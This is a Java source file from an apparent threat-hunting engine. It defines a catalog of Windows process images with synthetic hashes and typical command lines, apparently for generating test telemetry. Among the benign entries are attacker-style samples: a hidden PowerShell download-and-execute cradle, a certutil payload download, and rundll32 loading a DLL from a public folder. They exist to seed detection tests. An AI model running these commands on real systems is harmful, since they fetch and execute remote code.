package dev.huntsql.engine.generate;

import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.HexFormat;
import java.util.List;

/**
 * An executable as Defender describes it (path, version information, hashes) and how it usually
 * runs (its parent, command lines and account kind); the catalog is {@link #ALL}.
 */
record ProcessImage(int ordinal, String fileName, String folderPath, String parentFileName,
    long fileSize, String company, String product, String productVersion, String originalFileName,
    String description, RunAs runAs, String[] commandLines, String sha1, String sha256, String md5) {

  /** Which account an image runs as. */
  enum RunAs { SYSTEM, LOCAL_SERVICE, NETWORK_SERVICE, USER }

  private static final String WINDOWS = "Microsoft\u00ae Windows\u00ae Operating System";
  private static final String WIN_VERSION = "10.0.19041.4355";

  static final ProcessImage SYSTEM_PROCESS = image(0, "System", null, null, 0, null, null, null, null, null,
      RunAs.SYSTEM, "");
  static final List<ProcessImage> ALL = List.of(
      SYSTEM_PROCESS,
      windows(1, "svchost.exe", "c:\\windows\\system32\\", "services.exe", 57360,
          "Host Process for Windows Services", RunAs.NETWORK_SERVICE,
          "svchost.exe -k NetworkService -p -s Dnscache", "svchost.exe -k netsvcs -p -s BITS",
          "svchost.exe -k LocalService -p -s WebClient", "svchost.exe -k netsvcs -p -s wuauserv"),
      windows(2, "explorer.exe", "c:\\windows\\", "userinit.exe", 5437312, "Windows Explorer", RunAs.USER,
          "Explorer.EXE", "C:\\WINDOWS\\Explorer.EXE"),
      image(3, "msedge.exe", "c:\\program files (x86)\\microsoft\\edge\\application\\", "explorer.exe", 4211200,
          "Microsoft Corporation", "Microsoft Edge", "131.0.2903.70", "msedge.exe", "Microsoft Edge", RunAs.USER,
          "\"msedge.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US",
          "\"msedge.exe\" --single-argument https://portal.contoso.com/"),
      image(4, "chrome.exe", "c:\\program files\\google\\chrome\\application\\", "explorer.exe", 3105560,
          "Google LLC", "Google Chrome", "131.0.6778.86", "chrome.exe", "Google Chrome", RunAs.USER,
          "\"chrome.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US",
          "\"chrome.exe\""),
      image(5, "ms-teams.exe", "c:\\program files\\windowsapps\\msteams_24295.605.3225.8804_x64__8wekyb3d8bbwe\\",
          "explorer.exe", 1033040, "Microsoft Corporation", "Microsoft Teams", "24295.605.3225.8804",
          "ms-teams.exe", "Microsoft Teams", RunAs.USER, "\"ms-teams.exe\" msteams:system-initiated"),
      image(6, "onedrive.exe", "c:\\program files\\microsoft onedrive\\", "explorer.exe", 3695448,
          "Microsoft Corporation", "Microsoft OneDrive", "24.221.1027.0001", "OneDrive.exe", "Microsoft OneDrive",
          RunAs.USER, "\"OneDrive.exe\" /background"),
      image(7, "outlook.exe", "c:\\program files\\microsoft office\\root\\office16\\", "explorer.exe", 43511680,
          "Microsoft Corporation", "Microsoft Outlook", "16.0.18129.20158", "Outlook.exe", "Microsoft Outlook",
          RunAs.USER, "\"OUTLOOK.EXE\" "),
      windows(8, "powershell.exe", "c:\\windows\\system32\\windowspowershell\\v1.0\\", "explorer.exe", 455680,
          "Windows PowerShell", RunAs.USER, "\"powershell.exe\" ",
          "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1",
          "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\""),
      windows(9, "cmd.exe", "c:\\windows\\system32\\", "explorer.exe", 323584, "Windows Command Processor",
          RunAs.USER, "\"cmd.exe\" ", "cmd.exe /c ipconfig /all", "cmd.exe /c whoami /groups"),
      windows(10, "net.exe", "c:\\windows\\system32\\", "cmd.exe", 57344, "Net Command", RunAs.USER,
          "net  use Z: \\\\fileshare\\builds", "net  use \\\\46.101.0.1\\builds /TCPPORT:8445", "net  view"),
      windows(11, "ssh.exe", "c:\\windows\\system32\\openssh\\", "powershell.exe", 1028096, "OpenSSH SSH client",
          RunAs.USER, "ssh.exe  deploy@build-relay.example.net", "ssh.exe -i .ssh\\id_ed25519 admin@10.20.1.40"),
      windows(12, "mstsc.exe", "c:\\windows\\system32\\", "explorer.exe", 1420288, "Remote Desktop Connection",
          RunAs.USER, "\"mstsc.exe\" /v:jump.example.org", "\"mstsc.exe\" /v:srv-sql-01"),
      windows(13, "curl.exe", "c:\\windows\\system32\\", "cmd.exe", 579072, "curl executable", RunAs.USER,
          "curl.exe -s https://ifconfig.me", "curl.exe -o update.zip http://files.example.com/update.zip"),
      image(14, "msmpeng.exe", "c:\\programdata\\microsoft\\windows defender\\platform\\4.18.24090.11-0\\",
          "services.exe", 133560, "Microsoft Corporation", WINDOWS, "4.18.24090.11", "MsMpEng.exe",
          "Antimalware Service Executable", RunAs.SYSTEM, "\"MsMpEng.exe\""),
      image(15, "mssense.exe", "c:\\program files\\windows defender advanced threat protection\\", "services.exe",
          5124232, "Microsoft Corporation", WINDOWS, "10.8760.19041.4355", "MsSense.exe",
          "Windows Defender Advanced Threat Protection Service Executable", RunAs.SYSTEM, "\"MsSense.exe\""),
      windows(16, "lsass.exe", "c:\\windows\\system32\\", "wininit.exe", 59456,
          "Local Security Authority Process", RunAs.SYSTEM, "C:\\WINDOWS\\system32\\lsass.exe"),
      windows(17, "winlogon.exe", "c:\\windows\\system32\\", "smss.exe", 907264, "Windows Logon Application",
          RunAs.SYSTEM, "winlogon.exe"),
      windows(18, "services.exe", "c:\\windows\\system32\\", "wininit.exe", 722640,
          "Services and Controller app", RunAs.SYSTEM, "C:\\WINDOWS\\system32\\services.exe"),
      image(19, "sqlservr.exe", "c:\\program files\\microsoft sql server\\mssql16.mssqlserver\\mssql\\binn\\",
          "services.exe", 618560, "Microsoft Corporation", "Microsoft SQL Server", "2022.160.4135.4",
          "SQLSERVR.EXE", "SQL Server Windows NT - 64 Bit", RunAs.NETWORK_SERVICE,
          "\"sqlservr.exe\" -sMSSQLSERVER"),
      windows(20, "w3wp.exe", "c:\\windows\\system32\\inetsrv\\", "svchost.exe", 29184,
          "IIS Worker Process", RunAs.NETWORK_SERVICE, "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"DefaultAppPool\""),
      windows(21, "rundll32.exe", "c:\\windows\\system32\\", "explorer.exe", 71680, "Windows host process (Rundll32)",
          RunAs.USER, "rundll32.exe shell32.dll,Control_RunDLL", "rundll32.exe C:\\Users\\Public\\x.dll,Start"),
      windows(22, "certutil.exe", "c:\\windows\\system32\\", "cmd.exe", 1651712, "CertUtil.exe", RunAs.USER,
          "certutil.exe -urlcache -split -f http://203.0.113.9/p.bin p.bin", "certutil.exe -verify c.cer"),
      windows(23, "dns.exe", "c:\\windows\\system32\\", "services.exe", 2532352, "Domain Name System (DNS) Server",
          RunAs.SYSTEM, "C:\\Windows\\system32\\dns.exe"));

  /** The image with this file name, in any letter case. */
  static ProcessImage named(String fileName) {
    for (ProcessImage image : ALL) {
      if (image.fileName.equalsIgnoreCase(fileName)) {
        return image;
      }
    }
    throw new IllegalArgumentException("no image " + fileName);
  }

  String internalFileName() {
    return originalFileName == null ? null : originalFileName.substring(0, originalFileName.lastIndexOf('.'));
  }

  String fullPath() {
    return folderPath == null ? null : folderPath + fileName.toLowerCase();
  }

  private static ProcessImage windows(int ordinal, String fileName, String folder, String parent, long size,
      String description, RunAs runAs, String... commandLines) {
    return image(ordinal, fileName, folder, parent, size, "Microsoft Corporation", WINDOWS, WIN_VERSION,
        fileName, description, runAs, commandLines);
  }

  private static ProcessImage image(int ordinal, String fileName, String folder, String parent, long size,
      String company, String product, String version, String original, String description, RunAs runAs,
      String... commandLines) {
    if (folder == null) {
      return new ProcessImage(ordinal, fileName, null, null, 0, null, null, null, null, null, runAs,
          commandLines, null, null, null);
    }
    byte[] seed = ("huntsql synthetic image " + fileName.toLowerCase()).getBytes(StandardCharsets.UTF_8);
    return new ProcessImage(ordinal, fileName, folder, parent, size, company, product, version, original,
        description, runAs, commandLines, digest("SHA-1", seed), digest("SHA-256", seed), digest("MD5", seed));
  }

  private static String digest(String algorithm, byte[] data) {
    try {
      return HexFormat.of().formatHex(MessageDigest.getInstance(algorithm).digest(data));
    } catch (NoSuchAlgorithmException e) {
      throw new IllegalStateException(e);
    }
  }
}
